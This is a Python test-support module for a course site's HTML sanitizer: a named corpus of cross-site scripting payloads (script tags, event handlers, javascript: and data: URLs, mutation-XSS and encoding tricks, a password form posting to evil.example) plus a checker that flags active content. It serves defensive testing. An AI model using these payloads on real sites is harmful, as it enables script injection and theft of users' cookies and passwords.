"""The XSS corpus and the checker of active content that
tests/coursesite/test_xss_corpus.py and test_xss_corpus_pages.py use: payloads by
name, and what counts as a script, an event handler or a script URL in HTML."""

from __future__ import annotations

import re
from html import unescape
from html.parser import HTMLParser

B64_SCRIPT = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="  # <script>alert(1)</script>
B64_SVG = "PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"  # <svg onload=alert(1)>
JS_DECIMAL = "".join(f"&#{ord(c):07d}" for c in "javascript:alert(1)")
JS_HEX = "".join(f"&#x{ord(c):X}" for c in "javascript:alert(1)")

# (id, payload): the id names the payload in a failing test.
CORPUS: list[tuple[str, str]] = [
    # --- script tags --------------------------------------------------------------------
    ("script", "<script>alert(1)</script>"),
    ("script-upper-src", "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>"),
    ("script-mixed-case", "<ScRiPt>alert(1)</sCrIpT>"),
    ("script-slash-src", "<script/src=data:,alert(1)></script>"),
    ("script-unclosed", "<script>alert(1)//"),
    ("script-double-open", "<<script>script>alert(1)<</script>/script>"),
    ("script-split-name", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("script-type", '<script type="text/javascript">alert(document.cookie)</script>'),
    ("script-comment-split", "<script>/*</script><script>alert(1)//*/</script>"),
    ("script-after-quote", '"><script>alert(1)</script>'),
    ("script-after-apostrophe", "'><script>alert(1)</script>"),
    ("script-out-of-textarea", "</textarea><script>alert(1)</script>"),
    ("script-out-of-title", "</title><script>alert(1)</script>"),
    ("script-in-list", "- item\n- <script>alert(1)</script>"),
    ("script-in-quote", "> <script>alert(1)</script>"),
    ("script-in-heading", "## <script>alert(1)</script>"),
    ("script-in-code-span", "`</code><script>alert(1)</script>`"),
    ("script-in-fenced-code", "```\n</code></pre><script>alert(1)</script>\n```"),
    ("script-in-table", "| a | b |\n|---|---|\n| <script>alert(1)</script> | x |"),
    ("script-in-link-text", "[<script>alert(1)</script>](https://ok.example)"),
    ("script-bom", "\ufeff<script>alert(1)</script>"),
    ("script-rtl-override", "\u202e<script>alert(1)</script>"),
    ("script-escaped-text", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("script-fullwidth", "＜script＞alert(1)＜/script＞"),
    # --- event handlers -----------------------------------------------------------------
    ("img-onerror", "<img src=x onerror=alert(1)>"),
    ("img-onerror-quoted", '<img src="x" onerror="alert(1)">'),
    ("img-onerror-upper", "<IMG SRC=x ONERROR=alert(1)>"),
    ("img-onerror-mixed", "<img src=x oNeRrOr=alert(1)>"),
    ("img-onerror-slashes", '<img/src="x"/onerror=alert(1)>'),
    ("img-onerror-spaced", "<img src=x onerror  =  alert(1)>"),
    ("img-onerror-entities", "<img src=x onerror=alert&#40;1&#41;>"),
    ("img-onerror-eval-src", "<img src=x:alert(alt) onerror=eval(src) alt=0>"),
    ("img-onerror-unclosed", "<img src=x onerror=alert(1)"),
    ("img-onerror-tab", "<img src=x\tonerror=alert(1)>"),
    ("img-onerror-newlines", "<img\nsrc=x\nonerror=alert(1)>"),
    ("img-onerror-formfeed", "<img src=x\x0conerror=alert(1)>"),
    ("img-triple-quote", '<img """><script>alert(1)</script>">'),
    ("body-onload", "<body onload=alert(1)>"),
    ("body-onpageshow", "<body onpageshow=alert(1)>"),
    ("svg-onload", "<svg onload=alert(1)>"),
    ("svg-slash-onload", "<svg/onload=alert(1)>"),
    ("div-onmouseover", '<div onmouseover="alert(1)">hover</div>'),
    ("p-onclick", '<p onclick="alert(1)">x</p>'),
    ("a-onclick", '<a href="https://ok.example" onclick="alert(1)">x</a>'),
    ("a-onmouseover-no-href", '<a onmouseover="alert(document.cookie)">x</a>'),
    ("input-onfocus", "<input autofocus onfocus=alert(1)>"),
    ("select-onfocus", "<select autofocus onfocus=alert(1)></select>"),
    ("textarea-onfocus", "<textarea autofocus onfocus=alert(1)></textarea>"),
    ("keygen-onfocus", "<keygen autofocus onfocus=alert(1)>"),
    ("video-source-onerror", "<video><source onerror=alert(1)></video>"),
    ("audio-onerror", "<audio src=x onerror=alert(1)>"),
    ("details-ontoggle", "<details open ontoggle=alert(1)>"),
    ("marquee-onstart", "<marquee onstart=alert(1)>x</marquee>"),
    ("td-onclick", "<table><tr><td onclick=alert(1)>x</td></tr></table>"),
    ("th-onmouseover", "<table><tr><th onmouseover=alert(1)>x</th></tr></table>"),
    ("abbr-onmouseover", "<abbr title=x onmouseover=alert(1)>x</abbr>"),
    ("strong-onmouseover", "<strong onmouseover=alert(1)>x</strong>"),
    ("h2-onclick", "<h2 onclick=alert(1)>x</h2>"),
    ("li-onclick", "<ul><li onclick=alert(1)>x</li></ul>"),
    ("code-onclick", "<code onclick=alert(1)>x</code>"),
    ("img-inside-emphasis", "*<img src=x onerror=alert(1)>*"),
    ("img-in-link-text", "[<img src=x onerror=alert(1)>](https://ok.example)"),
    # --- javascript:, vbscript: and data: URLs ---------------------------------------------
    ("md-link-js", "[x](javascript:alert(1))"),
    ("md-link-js-mixed-case", "[x](JaVaScRiPt:alert(1))"),
    ("md-link-js-leading-spaces", "[x](  javascript:alert(1))"),
    ("md-link-js-angle", "[x](<javascript:alert(1)>)"),
    ("md-link-js-colon-entity", "[x](javascript&#58;alert(1))"),
    ("md-link-js-j-entity", "[x](&#106;avascript:alert(1))"),
    ("md-link-js-hex-entities", "[x](&#x6A;&#x61;&#x76;&#x61;script:alert(1))"),
    ("md-link-js-tab-entity", "[x](java&#x09;script:alert(1))"),
    ("md-link-js-newline-comment", "[x](javascript://%0Aalert(1))"),
    ("md-link-vbscript", "[x](vbscript:msgbox(1))"),
    ("md-link-data-html-base64", f"[x](data:text/html;base64,{B64_SCRIPT})"),
    ("md-link-data-html", "[x](data:text/html,<script>alert(1)</script>)"),
    ("md-link-title-breakout", '[x](https://ok.example "t" onclick="alert(1)")'),
    ("md-link-url-breakout", '[x](https://ok.example/" onmouseover="alert(1))'),
    ("md-image-js", "![x](javascript:alert(1))"),
    ("md-image-data-svg", f"![x](data:image/svg+xml;base64,{B64_SVG})"),
    ("md-image-src-breakout", '![x](x" onerror="alert(1))'),
    ("md-image-alt-breakout", '![" onerror="alert(1)](x)'),
    ("a-href-js", '<a href="javascript:alert(1)">x</a>'),
    ("a-href-js-tab-entity", '<a href="jav&#x09;ascript:alert(1)">x</a>'),
    ("a-href-js-newline-entity", '<a href="jav&#x0A;ascript:alert(1)">x</a>'),
    ("a-href-js-cr-entity", '<a href="java&#13;script:alert(1)">x</a>'),
    ("a-href-js-control-prefix", '<a href=" &#14;  javascript:alert(1)">x</a>'),
    ("a-href-js-space-entity", '<a href="&#x20;javascript:alert(1)">x</a>'),
    ("a-href-js-vertical-tab", '<a href="&#x0B;javascript:alert(1)">x</a>'),
    ("a-href-js-colon-named", '<a href="javascript&colon;alert(1)">x</a>'),
    ("a-href-js-padded-decimal", f'<a href="{JS_DECIMAL}">x</a>'),
    ("a-href-js-hex-no-semicolons", f'<a href="{JS_HEX}">x</a>'),
    ("a-href-js-unquoted-upper", "<A HREF=JAVASCRIPT:alert(1)>x</A>"),
    ("a-href-vbscript", '<a href="vbscript:msgbox(1)">x</a>'),
    ("a-href-livescript", '<a href="livescript:alert(1)">x</a>'),
    ("a-href-data-html", f'<a href="data:text/html;base64,{B64_SCRIPT}">x</a>'),
    ("a-xlink-href-js", '<a xlink:href="javascript:alert(1)">x</a>'),
    ("img-src-js", '<img src="javascript:alert(1)">'),
    ("img-src-js-mixed-case", "<img src=JaVaScRiPt:alert(1)>"),
    ("img-src-js-entities", f"<IMG SRC={JS_DECIMAL}>"),
    ("img-dynsrc-js", '<img dynsrc="javascript:alert(1)">'),
    ("img-lowsrc-js", '<img lowsrc="javascript:alert(1)">'),
    ("img-srcset-js", '<img srcset="javascript:alert(1) 1x">'),
    ("table-background-js", "<table background=javascript:alert(1)><tr><td>x</td></tr></table>"),
    # --- broken, nested and mutating markup -----------------------------------------------
    ("double-angle-img", "<<img src=x onerror=alert(1)>>"),
    ("unclosed-attribute", '<img src="x onerror=alert(1)//'),
    ("unclosed-href", '<a href="javascript:alert(1)"'),
    ("attribute-with-markup", '<a title="</a><script>alert(1)</script>">x</a>'),
    ("abbr-title-with-img", '<abbr title="<img src=x onerror=alert(1)>">x</abbr>'),
    ("mxss-svg-p-style", "<p><svg><p><style><img src=x onerror=alert(1)>"),
    ("mxss-noscript-title", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    ("mxss-math-mglyph", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    (
        "mxss-form-math",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    ),
    ("mxss-svg-style-id", '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'),
    ("listing-entity", "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>"),
    ("xmp-img", "<xmp><img src=x onerror=alert(1)></xmp>"),
    ("noembed-title", '<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>'),
    ("plaintext", "<plaintext><script>alert(1)</script>"),
    ("template-script", "<template><script>alert(1)</script></template>"),
    ("textarea-script", "<textarea><script>alert(1)</script></textarea>"),
    ("table-td-img", "<table><td><img src=x onerror=alert(1)>"),
    ("markdown-placeholder", "<b>x</b>\x02wzxhzdk:0\x03<script>alert(1)</script>"),
    # --- SVG and MathML -------------------------------------------------------------------
    ("svg-script", "<svg><script>alert(1)</script></svg>"),
    ("svg-a-xlink-js", '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'),
    ("svg-animate-onbegin", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("svg-set-href-js", '<svg><a><set attributeName="href" to="javascript:alert(1)"/></a></svg>'),
    ("svg-image-onerror", "<svg><image href=x onerror=alert(1)>"),
    (
        "svg-foreignobject-iframe",
        '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe>'
        "</foreignObject></svg>",
    ),
    ("svg-style-import", "<svg><style>@import url(javascript:alert(1))</style></svg>"),
    ("math-a-xlink-js", '<math><a xlink:href="javascript:alert(1)">x</a></math>'),
    ("math-href-js", '<math href="javascript:alert(1)">x</math>'),
    (
        "math-maction",
        '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction>'
        "</math>",
    ),
    # --- style and CSS --------------------------------------------------------------------
    ("style-url-js", '<div style="background:url(javascript:alert(1))">x</div>'),
    ("style-expression", '<div style="width: expression(alert(1))">x</div>'),
    ("style-escaped-expression", '<p style="x:\\65xpression(alert(1))">x</p>'),
    ("style-behavior", '<div style="behavior: url(x.htc)">x</div>'),
    ("style-moz-binding", '<div style="-moz-binding: url(https://evil.example/x.xml#x)">x</div>'),
    ("style-tag-import", "<style>@import 'https://evil.example/x.css';</style>"),
    ("style-tag-url-js", '<style>body{background:url("javascript:alert(1)")}</style>'),
    ("link-stylesheet-js", '<link rel="stylesheet" href="javascript:alert(1)">'),
    # --- frames, objects and srcdoc ---------------------------------------------------------
    ("iframe-src-js", '<iframe src="javascript:alert(1)"></iframe>'),
    ("iframe-srcdoc", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'),
    ("iframe-external", "<iframe src=https://evil.example></iframe>"),
    ("iframe-onload", "<iframe onload=alert(1)></iframe>"),
    ("frameset-frame-js", '<frameset><frame src="javascript:alert(1)"></frameset>'),
    ("embed-src-js", '<embed src="javascript:alert(1)">'),
    ("embed-data-svg", f"<embed src=data:image/svg+xml;base64,{B64_SVG}>"),
    ("object-data-js", '<object data="javascript:alert(1)"></object>'),
    ("object-data-html", f'<object data="data:text/html;base64,{B64_SCRIPT}"></object>'),
    ("applet", '<applet code="Evil.class"></applet>'),
    # --- meta, base, forms ------------------------------------------------------------------
    ("meta-refresh-js", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    (
        "meta-refresh-data",
        f'<meta http-equiv="refresh" content="0; url=data:text/html;base64,{B64_SCRIPT}">',
    ),
    ("meta-charset-utf7", '<meta charset="UTF-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-'),
    ("base-href-js", '<base href="javascript:alert(1)//">'),
    ("base-href-external", '<base href="https://evil.example/">'),
    ("form-action-js", '<form action="javascript:alert(1)"><input type=submit></form>'),
    ("button-formaction", "<form><button formaction=javascript:alert(1)>x</button></form>"),
    ("input-image-src-js", '<input type="image" src="javascript:alert(1)">'),
    ("isindex-action", "<isindex action=javascript:alert(1) type=image>"),
    ("button-form-attribute", "<button form=f formaction=javascript:alert(1)>x</button>"),
    (
        "form-phishing",
        '<form action="https://evil.example/"><input name="password" type="password"></form>',
    ),
    # --- Markdown reference links and autolinks -------------------------------------------
    ("ref-link-js", "[x][1]\n\n[1]: javascript:alert(1)"),
    ("ref-link-js-angle-title", '[x][a]\n\n[a]: <javascript:alert(1)> "t"'),
    ("ref-image-js", "![x][img]\n\n[img]: javascript:alert(1)"),
    ("ref-shortcut-vbscript", "[x]\n\n[x]: vbscript:msgbox(1)"),
    ("ref-link-data-html", "[x][r]\n\n[r]: data:text/html,<script>alert(1)</script>"),
    ("ref-link-entity-js", "[x][r]\n\n[r]: &#106;avascript:alert(1)"),
    ("autolink-js", "<javascript:alert(1)>"),
    ("autolink-js-upper", "<JAVASCRIPT:alert(1)>"),
    ("autolink-vbscript", "<vbscript:msgbox(1)>"),
    ("autolink-data", "<data:text/html,<script>alert(1)</script>>"),
    ("autolink-http-breakout", '<http://x.example/"onmouseover="alert(1)>'),
    ("autolink-mailto-breakout", '<mailto:x@example.com?body="><script>alert(1)</script>>'),
    ("autolink-email-breakout", '<x@example.com" onclick="alert(1)>'),
    ("bare-url-with-script", "https://ok.example/?q=<script>alert(1)</script>"),
    # --- comments, CDATA, declarations ----------------------------------------------------
    ("comment-script", "<!--<script>alert(1)</script>-->"),
    ("comment-around-script", "<!-- --><script>alert(1)</script><!-- -->"),
    ("comment-conditional", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->"),
    ("cdata-script", "<![CDATA[<script>alert(1)</script>]]>"),
    ("comment-abrupt", "<!--><img src=x onerror=alert(1)>-->"),
    ("comment-abrupt-dash", "<!---><img src=x onerror=alert(1)>-->"),
    ("comment-bang-close", "<!-- --!><img src=x onerror=alert(1)>-->"),
    ("comment-unclosed", "<!-- <img src=x onerror=alert(1)>"),
    ("xml-declaration", '<?xml version="1.0"?><script>alert(1)</script>'),
    ("doctype", "<!DOCTYPE html><script>alert(1)</script>"),
    ("svg-cdata", "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>"),
    ("math-cdata", "<math><![CDATA[</math><img src=x onerror=alert(1)>]]>"),
    # --- null bytes and Unicode whitespace ----------------------------------------------
    ("null-in-tag-name", "<scr\x00ipt>alert(1)</scr\x00ipt>"),
    ("null-before-handler", "<img src=x\x00 onerror=alert(1)>"),
    ("null-in-md-link", "[x](java\x00script:alert(1))"),
    ("null-in-href", '<a href="java\x00script:alert(1)">x</a>'),
    ("null-entity-in-href", '<a href="java&#0;script:alert(1)">x</a>'),
    ("line-separator-md-link", "[x](\u2028javascript:alert(1))"),
    ("nbsp-md-link", "[x](\u00a0javascript:alert(1))"),
    ("ideographic-space-href", '<a href="\u3000javascript:alert(1)">x</a>'),
    ("formfeed-attribute-separator", '<a\x0chref="javascript:alert(1)">x</a>'),
    ("nbsp-attribute-separator", "<img\u00a0src=x\u00a0onerror=alert(1)>"),
    ("zero-width-in-href", '<a href="javas\u200bcript:alert(1)">x</a>'),
    ("control-chars-md-link", "[x](\x01\x02javascript:alert(1))"),
]


# --- an active-content checker ------------------------------------------------------------

# Elements that run script, load a document or plugin, restyle the page, or take input.
ACTIVE_TAGS = frozenset(
    {
        "script", "iframe", "frame", "frameset", "object", "embed", "applet", "param",
        "style", "link", "meta", "base", "form", "input", "button", "textarea", "select",
        "option", "keygen", "isindex", "svg", "math", "body", "html", "head", "template",
        "noscript", "xmp", "plaintext", "listing", "noembed", "noframes", "portal",
        "video", "audio", "source", "track", "image",
        "animate", "set", "use", "foreignobject", "handler", "xml", "import",
    }
)  # fmt: skip
URL_ATTRIBUTES = frozenset(
    {
        "href", "src", "action", "formaction", "xlink:href", "data", "code", "codebase",
        "archive", "background", "poster", "lowsrc", "dynsrc", "cite", "longdesc",
        "usemap", "manifest", "ping", "profile", "icon", "to", "from", "values", "by",
        "xml:base",
    }
)  # fmt: skip
SRCSET_ATTRIBUTES = frozenset({"srcset", "imagesrcset"})
SCRIPT_SCHEMES = ("javascript:", "vbscript:", "livescript:", "mocha:")
RASTER_IMAGE_DATA = re.compile(r"^data:image/(png|gif|jpe?g|webp|avif|bmp)[;,]")
C0_AND_SPACE = "".join(chr(c) for c in range(0x21))
CSS_ACTIVE = (
    "expression(", "javascript:", "vbscript:", "behavior:", "-moz-binding", "@import",
    "url(data:text/html",
)  # fmt: skip


def url_is_active(value: str) -> bool:
    """Whether a URL (with its HTML entities already decoded) runs script or loads a
    document: read as a browser's URL parser reads it, which strips leading and
    trailing control characters and spaces and ignores tabs and line breaks; NUL
    is dropped too, as old browsers did."""
    url = re.sub(r"[\t\n\r\x00]", "", value.strip(C0_AND_SPACE)).lower()
    if url.startswith(SCRIPT_SCHEMES):
        return True
    return url.startswith("data:") and not RASTER_IMAGE_DATA.match(url)


def css_is_active(value: str) -> bool:
    css = re.sub(r"/\*.*?\*/", "", value, flags=re.S)
    css = re.sub(r"\\([0-9a-fA-F]{1,6})\s?", lambda m: chr(int(m.group(1), 16)), css)
    css = re.sub(r"\\(.)", r"\1", css)
    css = re.sub(r"[\s\x00-\x1f\"']", "", css).lower()
    return any(marker in css for marker in CSS_ACTIVE)


def attribute_is_active(name: str, value: str) -> bool:
    if name.startswith("on") or name == "srcdoc":
        return True
    if name == "style":
        return css_is_active(value)
    if name in SRCSET_ATTRIBUTES:
        return any(url_is_active((each.split() or [""])[0]) for each in value.split(","))
    if name in URL_ATTRIBUTES or name.endswith(("href", "src", "action")):
        return url_is_active(value)
    return False


def tag_findings(tag: str, attrs: list[tuple[str, str | None]]) -> list[str]:
    """What a browser would run or load from one start tag."""
    found = [f"<{tag}>"] if tag in ACTIVE_TAGS else []
    for name, value in attrs:
        if attribute_is_active(name, value or ""):
            found.append(f"<{tag} {name}={value!r}>")
    return found


class ActiveContent(HTMLParser):
    """Everything in an HTML text that a browser would run or load. The parser
    decodes entities in attribute values, and lowercases tag and attribute names."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.found.extend(tag_findings(tag, attrs))

    def handle_comment(self, data):
        # The sanitizer drops comments; old browsers ran conditional ones.
        self.found.append(f"<!--{data[:40]}-->")

    def unknown_decl(self, data):
        self.found.append(f"<![{data[:40]}]>")

    def handle_pi(self, data):
        self.found.append(f"<?{data[:40]}>")


def active_content(html: str) -> list[str]:
    parser = ActiveContent()
    parser.feed(html)
    parser.close()
    return parser.found


TAG = re.compile(r"<\s*(/?)\s*([a-zA-Z][^\s/>]*)([^>]*)>")
ATTRIBUTE = re.compile(r"""([^\s=/>"']+)(?:\s*=\s*("[^"]*"|'[^']*'|[^\s>]+))?""")


def active_content_by_pattern(html: str) -> list[str]:
    """A second, independent reading of sanitized HTML, by patterns: it relies on
    the sanitizer escaping every `<` and `>` that is not markup (attribute values
    included), and finds any `<` that starts no plain tag."""
    found = []
    for match in TAG.finditer(html):
        closing, name, rest = match.groups()
        if closing:
            continue
        attrs = []
        for attribute in ATTRIBUTE.finditer(rest):
            value = attribute.group(2) or ""
            if value[:1] in ("'", '"'):
                value = value[1:-1]
            attrs.append((attribute.group(1).lower(), unescape(value)))
        found.extend(tag_findings(name.lower(), attrs))
    if "<" in TAG.sub("", html):
        found.append("a '<' that starts no plain tag")
    return found


def stored(payload: str) -> str:
    """A payload as a field can hold it. Forms refuse NUL and PostgreSQL cannot store
    it; without it the payload is the nastier one (`<scr\\0ipt>` becomes `<script>`).
    The filter itself gets the NUL (`test_filter_output_has_no_active_content`)."""
    return payload.replace("\x00", "")
